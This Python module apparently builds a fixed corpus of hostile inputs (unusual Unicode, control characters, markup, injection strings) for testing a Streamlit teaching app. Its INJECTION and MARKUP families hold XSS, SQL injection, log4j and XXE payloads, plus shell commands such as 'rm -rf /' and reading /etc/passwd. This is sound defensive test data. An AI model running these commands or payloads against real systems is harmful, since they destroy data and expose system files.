"""A corpus of hostile inputs: what a classroom of learners may type, paste or put in a URL.

Hand-picked cases by family, then seeded mixtures of them, so the corpus is the same on every run.
Each entry is (id, text); ids are stable and readable so a failure names its input. Used by
tests/test_hostile_inputs.py (every page under AppTest) and the browser tests.
"""

from __future__ import annotations

import random

from encoders.text import MAX_CHARS

# Families of hand-picked inputs. Everything a learner can type in a text box — and a few things a
# URL can carry that a keyboard cannot (NUL, bidi overrides). Not lone surrogates: neither a browser
# nor a URL can deliver one (Streamlit's protobuf is UTF-8), so there is nothing to defend against.
EMPTY = {
    "empty": "",
    "space": " ",
    "spaces": " " * 200,
    "tabs-newlines": "\t\n\r\n\t",
    "nbsp": "\u00a0\u00a0",
    "zero-width": "\u200b\u200c\u200d\ufeff",
    "ideographic-space": "\u3000\u3000",
    "line-separators": "\u2028\u2029\u0085",
    "only-punctuation": ".,;:!?…—–-()[]{}",
    "only-combining": "\u0301\u0308\u0323",
    "only-variation-selector": "\ufe0f\ufe0e",
}
SHORT = {
    "one-letter": "a",
    "one-digit": "7",
    "one-dot": ".",
    "one-hangul": "가",
    "one-jamo": "\u1100\u1161",  # conjoining jamo: one syllable in two code points
    "one-emoji": "😀",
    "one-zwj-family": "👨‍👩‍👧‍👦",
    "one-flag": "🇰🇷",
    "one-keycap": "1️⃣",
    "one-skin-tone": "👍🏽",
    "one-cjk": "字",
    "one-arabic": "س",
    "one-math": "∑",
    "one-private-use": "\ue000",
    "one-replacement": "\ufffd",
    "repeated-word": "a " * 40,
    "no-spaces-punct": "a.b,c;d:e!f?g",
}
LONG = {
    "max-chars-words": " ".join(["word"] * (MAX_CHARS // 5))[:MAX_CHARS],
    "max-chars-one-letter": "a" * MAX_CHARS,
    "word-5000": "x" * 5000,
    "word-5000-in-sentence": "The " + "y" * 5000 + " sat on the mat.",
    "max-chars-hangul": ("고양이가 매트 위에 앉았다 " * 1000)[:MAX_CHARS],
    "max-chars-emoji": "😀" * (MAX_CHARS // 2),
    "max-chars-zwj": ("👩‍💻 " * 3000)[:MAX_CHARS],
    "max-chars-punct": "." * MAX_CHARS,
    "max-chars-newlines": "\n" * MAX_CHARS,
    "max-chars-digits": "9" * MAX_CHARS,
    "over-max-chars": "z " * MAX_CHARS,  # twice the limit: the app must cut, not choke
    "1000-sentences": "Go. " * 1000,
    "257-tokens": " ".join(f"t{k}" for k in range(257)),
    "512-tokens": " ".join(f"t{k}" for k in range(512)),
}
SCRIPTS = {
    "korean": "고양이가 매트 위에 앉았다. 강아지가 통나무 위에 앉았다.",
    "korean-mixed": "RoPE는 회전 위치 임베딩 (rotary position embedding)이다.",
    "japanese": "猫がマットの上に座った。",
    "chinese": "猫坐在垫子上。狗坐在木头上。",
    "thai": "แมวนั่งบนเสื่อ",
    "devanagari": "बिल्ली चटाई पर बैठी।",
    "arabic": "جلست القطة على الحصيرة.",
    "hebrew": "החתול ישב על השטיח.",
    "rtl-ltr-mixed": "The word قطة means cat, and חתול too.",
    "bidi-override": "abc\u202edef\u202cghi \u2066x\u2069",
    "greek-cyrillic": "Η γάτα κάθισε. Кошка сидела.",
    "zalgo": "Z\u0351\u0322\u0334a\u0308\u0358\u035cl\u0327\u0310g\u0315o\u035d\u0322",
    "combining-latin": "cafe\u0301 n\u0303o ren\u0303e",
    "fullwidth": "ＴＨＥ　ＣＡＴ",
    "math-alphanumerics": "𝐓𝐡𝐞 𝒸𝒶𝓉",
    "emoji-sentence": "I ❤️ 서울 and 東京 🇰🇷🇯🇵 — don't you? 👩‍💻",
    "emoji-modifiers": "👋🏻👋🏼👋🏽👋🏾👋🏿 🏳️‍🌈 🧑‍🤝‍🧑",
    "ascii-art": "¯\\_(ツ)_/¯ (╯°□°)╯︵ ┻━┻",
    "homoglyphs": "Тhе саt",  # Cyrillic letters that look Latin
}
CONTROL = {
    "nul": "a\x00b",
    "nul-only": "\x00",
    "c0-controls": "".join(chr(c) for c in range(1, 32)),
    "del-c1": "\x7f\x80\x9f",
    "ansi-escape": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "backspaces": "abc\b\b\bxyz",
    "crlf-injection": "a\r\nSet-Cookie: x=1\r\n\r\nb",
    "noncharacters": "\ufffe\uffff",
    "tag-characters": "a\U000e0041\U000e0042b",
}
MARKUP = {
    "script-tag": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "style-tag": "<style>body{display:none}</style>",
    "attribute-break": '"><script>alert(1)</script>',
    "html-comment": "<!-- hidden --> shown",
    "entities": "&lt;b&gt; &amp; &#x3C;script&#x3E; &nbsp;",
    "bold-html": "<b>bold</b> <i>it</i>",
    "unclosed-tag": "<div><span>",
    "markdown-heading": "# Heading\n## Sub",
    "markdown-link": "[click](javascript:alert(1))",
    "markdown-image": "![x](http://example.com/x.png)",
    "markdown-table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "markdown-fence": "```python\nimport os\n```",
    "markdown-emphasis": "**bold** __under__ *it* ~~strike~~",
    "markdown-backticks": "`code` ``two`` ```",
    "markdown-list": "- a\n- b\n1. c",
    "markdown-quote": "> quoted\n>> deeper",
    "streamlit-colors": ":red[red] :material/home: :smile:",
    "latex-dollars": "$$ x $$",
    "latex-unbalanced": "$\\frac{a}{b$",
    "latex-braces": "{{{{ }}}} }{",
    "latex-backslashes": "\\\\ \\ \\n \\\\\\",
    "latex-begin": "$\\begin{matrix} a & b \\end{matrix}$",
    "latex-def": "$\\def\\x{\\x}\\x$",
    "latex-href": "$\\href{javascript:alert(1)}{x}$",
    "single-dollar": "costs $5 and $10",
    "mermaid": "```mermaid\ngraph TD; A-->B\n```",
}
INJECTION = {
    "sql-drop": "'; DROP TABLE students; --",
    "sql-or": '" OR 1=1 --',
    "shell-subst": "$(rm -rf /) `reboot`",
    "shell-pipe": "| cat /etc/passwd && echo hi",
    "path-traversal": "../../../../etc/passwd",
    "template-jinja": "{{7*7}} {% for x in y %}",
    "template-js": "${alert(1)} #{7*7}",
    "log4j": "${jndi:ldap://example.com/a}",
    "format-string": "%s%s%s%n %d {0} {}",
    "python-eval": "__import__('os').system('ls')",
    "json": '{"a": [1, 2, {"b": null}]}',
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "url": "https://example.com/?a=1&b=<2>#frag",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "query-string": "?s=evil&seed=-1&present=1",
}
NUMBERS = {
    "huge-number": "1" * 400,
    "float-extremes": "1e308 -1e308 1e-324 NaN inf -inf -0",
    "big-int-words": "9223372036854775808 18446744073709551616",
    "hex-octal": "0xFF 0o777 0b1010",
    "numbers-sentence": "3 cats sat on 2.5 mats for 1,000,000 years",
}

FAMILIES = {
    "empty": EMPTY,
    "short": SHORT,
    "long": LONG,
    "scripts": SCRIPTS,
    "control": CONTROL,
    "markup": MARKUP,
    "injection": INJECTION,
    "numbers": NUMBERS,
}


def _mixtures(n: int, seed: int = 2026) -> dict[str, str]:
    """Seeded mixtures: 2–5 hand-picked short inputs joined by spaces, newlines or nothing — the
    combinations nobody writes by hand (an emoji inside a script tag inside LaTeX)."""
    pool = [v for fam, d in FAMILIES.items() if fam != "long" for v in d.values()]
    rng = random.Random(seed)
    out = {}
    for k in range(n):
        parts = rng.sample(pool, rng.randint(2, 5))
        out[f"mix-{k:03d}"] = rng.choice([" ", "\n", ""]).join(parts)
    return out


HAND_PICKED: dict[str, str] = {f"{fam}:{key}": text for fam, d in FAMILIES.items() for key, text in d.items()}
CORPUS: dict[str, str] = {**HAND_PICKED, **_mixtures(200 - len(HAND_PICKED) + 20)}
